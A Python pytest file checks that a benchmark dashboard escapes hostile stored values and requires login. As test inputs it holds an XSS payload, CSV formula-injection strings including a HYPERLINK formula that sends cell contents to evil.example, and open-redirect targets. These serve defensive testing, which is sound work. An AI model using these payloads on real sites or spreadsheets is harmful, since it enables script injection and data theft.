"""The dashboard against hostile values and readers without a token.

Values that came from requests (commit message, branch, repo, variant names, error text) are
planted straight in the database, as the worst a writer could store, then every page and
export is read back: nothing may come out as markup, script or a spreadsheet formula.
"""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from api.app import create_app
from core.records.tokens import create_token, revoke_token
from core.records.db import session_factory, upgrade_database
from core.records.models import Commit, Job
from dashboard.login import COOKIE
from tests.conftest import make_settings
from tests.fake_results import add_job

XSS = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
SIZE = (4096, 4096, 4096)
PAGES = ["/", "/history", "/sweep", "/compare", "/roofline", "/jobs"]


def plant(cfg, text: str, tag: str = "abcd") -> int:
    """Two commits with `text` in every free-text field, and results named with it too."""
    job_id = None
    shas = [f"{tag}01", f"{tag}02"]
    for i, sha in enumerate(shas):
        job_id = add_job(cfg, sha, [(f"naive{text}", SIZE, 5000.0 + i, True), ("naive", SIZE, 5100.0 + i, True),
                                    ("smem_tiled", SIZE, 1.0, False)],
                         commit_index=i, message=text, error=text)
    with session_factory(cfg)() as db:
        db.execute(update(Commit).where(Commit.sha.in_(shas)).values(repo=text, branch=text))
        db.execute(update(Job).values(error=text, current_case=text))
        db.commit()
    return job_id


def every_view(client, job_id):
    for path in PAGES + [f"/jobs/{job_id}"]:
        for fmt in ("html", "json", "csv"):
            resp = client.get(path, params={"format": fmt})
            assert resp.status_code == 200, (path, fmt, resp.text[:300])
            yield path, fmt, resp


def test_request_values_are_escaped_in_html_and_in_script(client, cfg):
    job_id = plant(cfg, XSS)
    seen = 0
    for path, fmt, resp in every_view(client, job_id):
        if fmt != "html":
            continue
        assert "<script>alert(1)" not in resp.text, path
        assert "<img src=x" not in resp.text, path
        seen += "&lt;/script&gt;" in resp.text or "\\u003c/script\\u003e" in resp.text
    assert seen >= 3  # the values are shown (escaped), not dropped


def test_csv_cells_never_start_a_formula(client, cfg):
    for text, tag in zip(FORMULAS, ["abcd", "bcde", "cdef", "def0"]):
        job_id = plant(cfg, text, tag)
    cells = 0
    for path, fmt, resp in every_view(client, job_id):
        if fmt != "csv":
            continue
        for row in csv.reader(io.StringIO(resp.text)):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@"):
                    float(cell)  # only a number may start so (a negative value stays a number)
                cells += cell.startswith("'=") or cell.startswith("'@") or cell.startswith("'+")
    assert cells >= 3


@pytest.fixture
def gated(tmp_path, database_url):
    cfg = make_settings(tmp_path, database_url, GEMMWATCH_AUTH_READS="true")
    upgrade_database(cfg)
    with session_factory(cfg)() as db:
        token = create_token(db, "reader")
    add_job(cfg, "abcd01", [("naive", SIZE, 5000.0, True)])
    # Origin: as a browser sends it with a form posted from this site's own page (api/same_origin.py).
    return cfg, token, TestClient(create_app(cfg), follow_redirects=False, headers={"Origin": "http://testserver"})


@pytest.mark.parametrize("path", PAGES + ["/jobs/1", "/?format=csv", "/history?format=json", "/jobs/1?format=json"])
def test_with_auth_reads_every_page_and_export_needs_a_login(gated, path):
    _, _, client = gated
    resp = client.get(path)
    assert resp.status_code == 303 and resp.headers["location"].startswith("/login?next=")
    assert "abcd01" not in resp.text


def test_a_token_logs_in_with_a_signed_httponly_samesite_cookie(gated):
    cfg, token, client = gated
    assert client.get("/login").status_code == 200
    bad = client.post("/login", data={"token": "gw_not-a-token", "next": "/history"})
    assert bad.status_code == 303 and "failed=true" in bad.headers["location"] and COOKIE not in bad.cookies
    good = client.post("/login", data={"token": token, "next": "/history?format=csv"})
    assert good.status_code == 303 and good.headers["location"] == "/history?format=csv"
    cookie_header = good.headers["set-cookie"].lower()
    assert "httponly" in cookie_header and "samesite=lax" in cookie_header
    assert token not in good.headers["set-cookie"]  # the cookie stands for the token, it is not the token
    page = client.get("/jobs")
    assert page.status_code == 200 and "abcd01" in page.text
    assert client.get("/?format=csv").status_code == 200


def test_a_forged_or_revoked_session_is_sent_back_to_the_login(gated):
    cfg, token, client = gated
    client.post("/login", data={"token": token})
    signed = client.cookies[COOKIE]
    client.cookies.set(COOKIE, signed[:-2] + ("AA" if not signed.endswith("AA") else "BB"))
    assert client.get("/jobs").status_code == 303
    client.cookies.set(COOKIE, signed)
    assert client.get("/jobs").status_code == 200
    with session_factory(cfg)() as db:
        revoke_token(db, "reader")
    assert client.get("/jobs").status_code == 303


def test_the_login_only_sends_you_to_this_site(gated):
    _, token, client = gated
    # A browser drops tabs and newlines from a URL before reading it: "/\t/evil" is "//evil".
    for target in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "/\t/evil.example/x",
                   "/\n/evil.example/x", "/\r/evil.example", " //evil.example"):
        resp = client.post("/login", data={"token": token, "next": target})
        assert resp.headers["location"] == "/", target
        assert client.get("/login", params={"next": target}).text.count("evil.example") == 0, target
    resp = client.post("/login", data={"token": token, "next": "/jobs?gpu=H100"})
    assert resp.headers["location"] == "/jobs?gpu=H100"  # a path of this site is kept


def test_a_script_can_read_exports_with_a_bearer_token(gated):
    _, token, client = gated
    resp = client.get("/jobs?format=json", headers={"Authorization": f"Bearer {token}"})
    assert resp.status_code == 200 and resp.json()["rows"][0]["commit"] == "abcd01"


from tests.test_browser import browser  # noqa: E402,F401  (the real chromium, shared fixture)


def test_no_script_runs_in_a_real_browser(tmp_path, browser, live_server):  # noqa: F811
    """The same planted values, opened in chromium: no dialog opens and no script error is raised."""
    cfg = make_settings(tmp_path, f"sqlite:///{tmp_path / 'gemmwatch.db'}")
    upgrade_database(cfg)
    job_id = plant(cfg, XSS)
    base = live_server(cfg)
    page = browser.new_page()
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    for path in PAGES + [f"/jobs/{job_id}"]:
        page.goto(base + path)
        page.wait_for_load_state("load")
        assert "<script>alert(1)" in page.content().replace("&lt;", "<").replace("&gt;", ">") or path != f"/jobs/{job_id}"
    page.close()
    assert dialogs == [] and errors == []
